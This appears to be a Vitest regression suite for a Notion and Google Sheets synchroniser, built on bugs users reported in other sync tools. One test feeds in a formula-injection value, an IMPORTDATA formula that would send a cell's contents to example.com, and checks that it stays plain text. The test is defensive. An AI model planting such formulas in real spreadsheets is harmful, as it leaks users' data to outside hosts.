// What users of other synchronisers complained about, as stories that must end well here. Each names where it was told.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { SyncEvent } from '../../src/sync/events.ts';
import type { Outbox } from '../../src/sync/ports.ts';
import { openTwoServices, type TwoServices } from '../support/two-services.ts';

let services: TwoServices;
/** What a person does while a run is under way. */
let betweenReadAndWrite: () => Promise<void>;

const outbox: Outbox = {
  read: async () => {
    await betweenReadAndWrite();
    return [];
  },
  record: async () => undefined,
  clear: async () => undefined,
};

beforeEach(async () => {
  betweenReadAndWrite = async () => undefined;
  services = await openTwoServices({ example: 'small', outbox });
  await services.sync();
});
afterEach(() => services.close());

const [LEADS, SALES] = ['KPI-LEADS1', 'KPI-SALES1'];

const pageOf = async (key: string) => {
  const found = (await services.pages('KPIs')).find((each) => each.key === key);
  if (found === undefined) throw new Error(`There is no page of ${key}.`);
  return found;
};

const note = async (key: string, content: string): Promise<void> => {
  await services.as('mara').pages.update({
    page_id: (await pageOf(key)).id,
    properties: { 'Status note': { rich_text: [{ text: { content } }] } },
  });
};

const noteInSheet = async (key: string) => (await services.tab('KPIs'))[key]?.['Status note'];

/** A person turns the rows of the tab around by dragging the last one to the top. */
const dragLastToTop = async (title: string): Promise<void> => {
  const { spreadsheetId, person } = services;
  const { data } = await person.sheets.spreadsheets.get({ spreadsheetId });
  const sheetId = data.sheets?.find((sheet) => sheet.properties?.title === title)?.properties?.sheetId;
  const rows = Object.keys(await services.tab(title)).length;
  const source = { sheetId, dimension: 'ROWS', startIndex: rows, endIndex: rows + 1 };
  await person.sheets.spreadsheets.batchUpdate({
    spreadsheetId,
    requestBody: { requests: [{ moveDimension: { source, destinationIndex: 1 } }] },
  });
};

describe('duplicates', () => {
  it('syncing again makes nothing again (dvanoni/notero#27, airbytehq/airbyte#29357)', async () => {
    for (let n = 0; n < 3; n += 1) await services.sync();
    expect((await services.pages('KPIs')).map(({ key }) => key).sort()).toEqual([LEADS, SALES]);
    expect(Object.keys(await services.tab('KPIs')).sort()).toEqual([LEADS, SALES]);
  });

  it('a changed name is no new identity (dvanoni/notero#252)', async () => {
    const before = (await pageOf(LEADS)).id;
    await services.type('KPIs', LEADS, 'KPI', 'Another name altogether');
    await services.sync();
    expect(await services.pages('KPIs')).toHaveLength(2);
    expect(await pageOf(LEADS)).toMatchObject({ id: before, values: { KPI: 'Another name altogether' } });
  });

  it('an error while a page is made leaves one page (hk21702/YA-GCal-Notion-Sync-Script#59)', async () => {
    await services.person.sheets.spreadsheets.values.append({
      spreadsheetId: services.spreadsheetId,
      range: 'Goals!A1',
      valueInputOption: 'RAW',
      requestBody: { values: [['G-00000A', 'One more']] },
    });
    const made = { method: 'POST', path: /^\/v1\/pages$/ };
    services.faults.add({ ...made, fault: { kind: 'committed-error' } });
    await services.sync();
    await services.sync();
    const pages = await services.pages('Goals');
    expect(pages.filter(({ key }) => key === 'G-00000A')).toHaveLength(1);
    expect(pages).toHaveLength(3);
  });

  it('a deleted row does not come back (PipedreamHQ/pipedream#15765)', async () => {
    await services.removeRow('KPIs', LEADS);
    for (let n = 0; n < 3; n += 1) await services.sync();
    expect(Object.keys(await services.tab('KPIs'))).toEqual([SALES]);
    expect((await services.pages('KPIs')).map(({ key }) => key)).toEqual([SALES]);
  });
});

describe('lost and missed edits', () => {
  it('two edits in one minute are two edits (agency-kit/notion-cms#116, activepieces/activepieces#4671)', async () => {
    for (const text of ['first', 'second', 'third']) {
      await note(LEADS, text);
      await services.sync();
      // Notion's own clock has not moved by a minute in between.
      expect(await noteInSheet(LEADS)).toBe(text);
    }
  });

  it('an edit on each side of one record is kept (HUIXIN-TW/NotionSyncGCal#45)', async () => {
    await note(LEADS, 'from Notion');
    await services.type('KPIs', LEADS, 'Worked example', 'from the sheet');
    await services.sync();
    expect((await pageOf(LEADS)).values).toMatchObject({
      'Status note': 'from Notion',
      'Worked example': 'from the sheet',
    });
    expect(await noteInSheet(LEADS)).toBe('from Notion');
  });

  it('what people put on a page stays: subpages, databases, text (makenotion/notion-mcp-server#171, sourcegraph/notionreposync#7)', async () => {
    const { id } = await pageOf(LEADS);
    const mara = services.as('mara');
    const text = (content: string) => [{ type: 'text' as const, text: { content } }];
    await mara.pages.create({ parent: { page_id: id }, properties: { title: { title: text('Minutes') } } });
    await mara.databases.create({ parent: { type: 'page_id', page_id: id }, title: text('Leads by week') });
    await mara.blocks.children.append({
      block_id: id,
      children: [{ type: 'paragraph', paragraph: { rich_text: text('Call Vega') } }],
    });
    const children = async () => (await mara.blocks.children.list({ block_id: id })).results;
    const before = await children();
    expect(before).toHaveLength(3);
    await services.type('KPIs', LEADS, 'KPI', 'Leads, renamed');
    await services.sync();
    await note(LEADS, 'Seen');
    await services.sync();
    expect(await children()).toEqual(before);
  });

  it('a write that failed is tried again by the next run (framer/plugins PR 684)', async () => {
    await services.type('KPIs', LEADS, 'Worked example', 'A');
    await services.type('KPIs', SALES, 'Worked example', 'B');
    services.faults.add({
      service: 'notion',
      method: 'PATCH',
      fault: { kind: 'error', status: 400, code: 'validation_error', message: 'No.' },
    });
    const events: SyncEvent[] = [];
    expect(await services.sync(events)).toMatchObject({ exitCode: 1, postponed: 1, counts: { updated: 1 } });
    expect(events.filter((event) => event.kind === 'op' && event.outcome === 'failed')).toHaveLength(1);
    expect((await services.sync()).counts.updated).toBe(1);
    for (const [key, value] of [
      [LEADS, 'A'],
      [SALES, 'B'],
    ] as const)
      expect((await pageOf(key ?? '')).values['Worked example']).toBe(value);
  });
});

describe('dates', () => {
  it('a day is the same day after twenty round trips (thesamim/TickTickSync#366, HeroBlackInk/ultimate-todoist-sync-for-obsidian#24)', {
    timeout: 120_000,
  }, async () => {
    const due = async () => [(await services.tab('KPIs'))[LEADS]?.Due, (await pageOf(LEADS)).values.Due];
    await services.type('KPIs', LEADS, 'Due', '2028-02-29');
    await services.sync();
    const before = await due();
    expect(before[1]).toBe('2028-02-29');
    for (let n = 0; n < 10; n += 1) {
      // There: Notion hands the day on as it got it. And back: the sheet takes it again, typed as Notion says it.
      await services.as('mara').pages.update({
        page_id: (await pageOf(LEADS)).id,
        properties: { Due: { date: { start: '2028-03-01' } } },
      });
      await services.sync();
      await services.type('KPIs', LEADS, 'Due', '2028-02-29');
      await services.sync();
    }
    expect(await due()).toEqual(before);
  });
});

describe('rows and formulas', () => {
  it('a row that moves between look and write is still the row (n8n-io/n8n#1736, theoephraim/node-google-spreadsheet#459)', async () => {
    const order = Object.keys(await services.tab('KPIs'));
    await note(LEADS, 'meant for leads');
    // The run has read the sheet, and is about to ask Notion.
    betweenReadAndWrite = () => dragLastToTop('KPIs');
    await services.sync();
    betweenReadAndWrite = async () => undefined;
    expect(Object.keys(await services.tab('KPIs'))).toEqual([...order].reverse());
    expect(await noteInSheet(LEADS)).toBe('meant for leads');
    expect(await noteInSheet(SALES)).toBe('');
  });

  it('formulas beside a written cell stay formulas (theoephraim/node-google-spreadsheet#257, vlucas/sheetquery#9)', async () => {
    await services.type('KPIs', LEADS, 'Weight', '=1+1');
    await services.type('KPIs', LEADS, 'Source of record', '=CONCATENATE("Form"," ","A")');
    await services.sync();
    await note(LEADS, 'written beside them');
    await services.sync();
    const { data } = await services.person.sheets.spreadsheets.values.get({
      spreadsheetId: services.spreadsheetId,
      range: 'KPIs',
      valueRenderOption: 'FORMULA',
    });
    const [header = [], ...rows] = (data.values ?? []) as string[][];
    const row = rows.find((each) => each[0] === LEADS) ?? [];
    expect(row[header.indexOf('Weight')]).toBe('=1+1');
    expect(row[header.indexOf('Source of record')]).toBe('=CONCATENATE("Form"," ","A")');
    expect(row[header.indexOf('Status note')]).toBe('written beside them');
    expect((await pageOf(LEADS)).values.Weight).toBe(2);
  });

  it('text from Notion never becomes a formula (piotr-agier/google-drive-mcp PR 9)', async () => {
    await note(LEADS, '=IMPORTDATA("http://example.com/?"&A1)');
    await services.sync();
    expect(await noteInSheet(LEADS)).toBe('=IMPORTDATA("http://example.com/?"&A1)');
  });
});

describe('silence and loops', () => {
  it('two sides that agree stay quiet (twentyhq/twenty#11322, saltcorn/saltcorn#1870)', async () => {
    await note(LEADS, 'once');
    await services.sync();
    for (let n = 0; n < 3; n += 1) expect((await services.sync()).writes).toEqual({ sheet: 0, notion: 0 });
  });

  it('one quota error disables nothing (lightdash/lightdash#19888)', async () => {
    await note(LEADS, 'after the quota');
    services.faults.add({ service: 'sheets', times: 2, fault: { kind: 'rate-limit', retryAfter: 1 } });
    expect((await services.sync()).exitCode).toBe(0);
    expect(await noteInSheet(LEADS)).toBe('after the quota');
  });

  it('a database that is no longer shared is an error, not an empty database (airbytehq/airbyte#16987)', async () => {
    services.faults.add({
      service: 'notion',
      path: '/query',
      times: Number.POSITIVE_INFINITY,
      fault: { kind: 'error', status: 404, code: 'object_not_found', message: 'Could not find database.' },
    });
    expect(await services.sync()).toMatchObject({ exitCode: 2, writes: { sheet: 0, notion: 0 } });
    services.faults.clear();
    expect(Object.keys(await services.tab('KPIs'))).toHaveLength(2);
    expect(await services.pages('KPIs')).toHaveLength(2);
  });
});

describe('identity across both sides', () => {
  it('a goal born in Notion and its KPI can be removed together, and neither is held', async () => {
    const found = await services.person.notion.search({
      query: 'Goals',
      filter: { property: 'object', value: 'data_source' },
    });
    const goal = await services.as('mara').pages.create({
      parent: { type: 'data_source_id', data_source_id: found.results[0]?.id ?? '' },
      properties: { Goal: { title: [{ text: { content: 'Born in Notion' } }] } },
    });
    await services.as('mara').pages.update({
      page_id: (await pageOf(LEADS)).id,
      properties: { Goal: { relation: [{ id: goal.id }] } },
    });
    await services.sync();
    const [key] = Object.entries(await services.tab('Goals')).find(
      ([, row]) => row.Goal === 'Born in Notion',
    ) ?? [''];
    expect((await services.tab('KPIs'))[LEADS]?.Goal).toBe(key);
    await services.removeRow('Goals', key);
    const events: SyncEvent[] = [];
    expect(await services.sync(events)).toMatchObject({ held: 0, problems: 0 });
    expect((await services.pages('Goals')).map((page) => page.values.Goal)).not.toContain('Born in Notion');
    expect(await services.sync()).toMatchObject({ exitCode: 0 });
  });
});
